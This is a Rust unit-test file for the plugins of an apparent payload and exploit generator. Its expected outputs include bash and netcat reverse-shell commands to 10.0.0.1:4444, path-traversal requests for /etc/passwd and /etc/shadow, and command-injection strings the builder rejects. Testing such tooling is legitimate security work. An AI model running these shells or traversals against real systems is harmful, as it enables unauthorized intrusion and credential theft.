//! Unit tests for the built-in plugins.

use rstest::{fixture, rstest};

use super::*;
use crate::binder::bind;
use crate::capability::{Capability, Encodable};
use crate::error::PipelineError;
use crate::form::{FieldError, FormInput, validate};
use crate::invoker::Stage;
use crate::pipeline::{BuildForm, EncodeForm, Pipeline};
use crate::schema::derive;

#[fixture]
fn registry() -> ClassRegistry {
    ClassRegistry::with_builtins().expect("built-ins register")
}

fn encoder(
    registry: &ClassRegistry,
    identifier: &str,
    pairs: &[(&str, &str)],
) -> Box<dyn Encodable> {
    let class = registry
        .resolve_str(identifier, PluginKind::Encoder)
        .expect("encoder resolves");
    let specs = derive(&class).expect("schema");
    let params = validate(&FormInput::from_pairs(pairs.iter().copied()), &specs).expect("valid");
    match bind(class.instantiate(), params).expect("bind").into_capability() {
        Capability::Encodable(plugin) => plugin,
        Capability::Buildable(_) => panic!("{identifier} is not an encoder"),
    }
}

fn encode_text(
    registry: &ClassRegistry,
    identifier: &str,
    pairs: &[(&str, &str)],
    data: &str,
) -> String {
    let form = EncodeForm::new(data).with_params(FormInput::from_pairs(pairs.iter().copied()));
    let outcome = Pipeline::new(registry)
        .encode(identifier, &form)
        .expect("encode succeeds");
    outcome.artifact().to_text()
}

fn build_text(
    registry: &ClassRegistry,
    kind: PluginKind,
    identifier: &str,
    pairs: &[(&str, &str)],
) -> Result<String, PipelineError> {
    let form = BuildForm::new(FormInput::from_pairs(pairs.iter().copied()));
    Pipeline::new(registry)
        .build(kind, identifier, &form)
        .map(|outcome| outcome.artifact().to_text())
}

#[rstest]
fn every_builtin_schema_derives(registry: ClassRegistry) {
    for kind in PluginKind::ALL {
        for identifier in registry.list(kind) {
            let class = registry.resolve(identifier, kind).expect("resolves");
            derive(&class).unwrap_or_else(|error| panic!("{identifier}: {error}"));
        }
    }
}

#[rstest]
#[case::standard(&[], "hello", "aGVsbG8=")]
#[case::no_padding(&[("padding", "no")], "hello", "aGVsbG8")]
#[case::standard_symbols(&[], "~~~", "fn5+")]
#[case::url_safe(&[("alphabet", "url")], "~~~", "fn5-")]
#[case::url_safe_unpadded(&[("alphabet", "url"), ("padding", "off")], "~~", "fn4")]
fn base64_encodes(
    registry: ClassRegistry,
    #[case] pairs: &[(&str, &str)],
    #[case] data: &str,
    #[case] expected: &str,
) {
    assert_eq!(encode_text(&registry, "base64", pairs, data), expected);
}

#[rstest]
#[case::plain(&[], "AB", "4142")]
#[case::upper(&[("case", "upper")], "\n\u{7f}", "0A7F")]
#[case::escaped(&[("style", "escaped")], "AB", "\\x41\\x42")]
fn hex_encodes(
    registry: ClassRegistry,
    #[case] pairs: &[(&str, &str)],
    #[case] data: &str,
    #[case] expected: &str,
) {
    assert_eq!(encode_text(&registry, "hex", pairs, data), expected);
}

#[rstest]
#[case::unreserved_kept(&[], "a-b.c_d~e", "a-b.c_d~e")]
#[case::reserved_escaped(&[], "a b/c?d", "a%20b%2Fc%3Fd")]
#[case::encode_all(&[("encode_all", "true")], "ab", "%61%62")]
fn url_encodes(
    registry: ClassRegistry,
    #[case] pairs: &[(&str, &str)],
    #[case] data: &str,
    #[case] expected: &str,
) {
    assert_eq!(encode_text(&registry, "url", pairs, data), expected);
}

#[rstest]
#[case::base64("base64", &[])]
#[case::base64_url("base64", &[("alphabet", "url"), ("padding", "false")])]
#[case::hex("hex", &[])]
#[case::hex_escaped("hex", &[("style", "escaped"), ("case", "upper")])]
#[case::url("url", &[])]
#[case::url_all("url", &[("encode_all", "yes")])]
#[case::xor("xor", &[("key", "90")])]
fn encoders_invert(
    registry: ClassRegistry,
    #[case] identifier: &str,
    #[case] pairs: &[(&str, &str)],
) {
    let plugin = encoder(&registry, identifier, pairs);
    let data = b"GET /?q=a b&c=\xff\x00";
    let encoded = plugin.encode(data).expect("encode");
    let decoded = plugin.decode(&encoded).expect("invertible").expect("decode");
    assert_eq!(decoded, data);
}

#[rstest]
fn xor_key_is_required(registry: ClassRegistry) {
    let error = Pipeline::new(&registry)
        .encode("xor", &EncodeForm::new("data"))
        .expect_err("key missing");
    let PipelineError::Validation(errors) = &error else {
        panic!("expected validation error, got {error}");
    };
    assert_eq!(
        errors.as_slice(),
        [FieldError::MissingRequired { field: "key".into() }]
    );
}

#[rstest]
fn xor_key_out_of_range_is_a_constraint_violation(registry: ClassRegistry) {
    let form = EncodeForm::new("data").with_params(FormInput::from_pairs([("key", "256")]));
    let error = Pipeline::new(&registry)
        .encode("xor", &form)
        .expect_err("key too large");
    assert_eq!(error.status_code(), 400);
    assert!(matches!(error, PipelineError::Validation(_)));
}

#[rstest]
fn xor_zero_key_fails_self_validation(registry: ClassRegistry) {
    let form = EncodeForm::new("data").with_params(FormInput::from_pairs([("key", "0")]));
    let error = Pipeline::new(&registry)
        .encode("xor", &form)
        .expect_err("zero key");
    let PipelineError::Invocation(failure) = &error else {
        panic!("expected invocation failure, got {error}");
    };
    assert_eq!(failure.stage(), Stage::Validate);
    assert_eq!(error.status_code(), 400);
}

#[rstest]
#[case::sh("sh", "sh -i 2>&1 | nc 10.0.0.1 4444")]
#[case::bash("bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]
fn reverse_tcp_builds(registry: ClassRegistry, #[case] shell: &str, #[case] expected: &str) {
    let built = build_text(
        &registry,
        PluginKind::Payload,
        "shell/reverse_tcp",
        &[("host", "10.0.0.1"), ("port", "4444"), ("shell", shell)],
    )
    .expect("build");
    assert_eq!(built, expected);
}

#[rstest]
#[case::semicolon("10.0.0.1;id")]
#[case::subshell("$(id)")]
#[case::backtick("`id`")]
#[case::pipe("a|b")]
fn reverse_tcp_rejects_metacharacters(registry: ClassRegistry, #[case] host: &str) {
    let error = build_text(
        &registry,
        PluginKind::Payload,
        "shell/reverse_tcp",
        &[("host", host), ("port", "4444")],
    )
    .expect_err("host rejected");
    let PipelineError::Bind(bind_error) = &error else {
        panic!("expected bind error, got {error}");
    };
    assert_eq!(bind_error.field(), "host");
    assert_eq!(error.status_code(), 400);
}

#[rstest]
fn cmd_exec_quotes_arguments(registry: ClassRegistry) {
    let built = build_text(
        &registry,
        PluginKind::Payload,
        "cmd/exec",
        &[("command", "printf"), ("args", "%s it's")],
    )
    .expect("build");
    assert_eq!(built, r"'printf' '%s' 'it'\''s'");
}

#[rstest]
fn cmd_exec_passes_bare_command_line_through(registry: ClassRegistry) {
    let built = build_text(&registry, PluginKind::Payload, "cmd/exec", &[("command", "id -u")])
        .expect("build");
    assert_eq!(built, "id -u");
}

#[rstest]
fn cmd_exec_rejects_command_line_with_args(registry: ClassRegistry) {
    let error = build_text(
        &registry,
        PluginKind::Payload,
        "cmd/exec",
        &[("command", "ls -la"), ("args", "/tmp")],
    )
    .expect_err("incoherent");
    let PipelineError::Invocation(failure) = &error else {
        panic!("expected invocation failure, got {error}");
    };
    assert_eq!(failure.stage(), Stage::Validate);
}

#[rstest]
fn path_traversal_builds_with_defaults(registry: ClassRegistry) {
    let built = build_text(
        &registry,
        PluginKind::Exploit,
        "http/path_traversal",
        &[("target", "http://example.test:8080/download/")],
    )
    .expect("build");
    assert_eq!(
        built,
        "GET /download/../../../../../../etc/passwd HTTP/1.1\r\nHost: example.test:8080\r\n\r\n"
    );
}

#[rstest]
fn path_traversal_honours_depth_and_file(registry: ClassRegistry) {
    let built = build_text(
        &registry,
        PluginKind::Exploit,
        "http/path_traversal",
        &[
            ("target", "https://example.test"),
            ("depth", "2"),
            ("file", "/etc/shadow"),
        ],
    )
    .expect("build");
    assert!(built.starts_with("GET /../../etc/shadow HTTP/1.1\r\n"), "{built}");
    assert!(built.contains("Host: example.test\r\n"));
}

#[rstest]
#[case::ftp("ftp://example.test/")]
#[case::not_a_url("example.test")]
fn path_traversal_rejects_bad_targets(registry: ClassRegistry, #[case] target: &str) {
    let error = build_text(
        &registry,
        PluginKind::Exploit,
        "http/path_traversal",
        &[("target", target)],
    )
    .expect_err("rejected");
    assert!(matches!(error, PipelineError::Bind(_)), "{error}");
}

#[rstest]
fn path_traversal_requires_absolute_file(registry: ClassRegistry) {
    let error = build_text(
        &registry,
        PluginKind::Exploit,
        "http/path_traversal",
        &[("target", "http://example.test/"), ("file", "etc/passwd")],
    )
    .expect_err("relative file");
    assert!(
        matches!(&error, PipelineError::Invocation(failure) if failure.stage() == Stage::Validate),
        "{error}"
    );
}

#[rstest]
fn register_all_twice_reports_duplicate(mut registry: ClassRegistry) {
    let error = register_all(&mut registry).expect_err("duplicate");
    assert!(matches!(error, RegistryError::Duplicate { .. }));
}
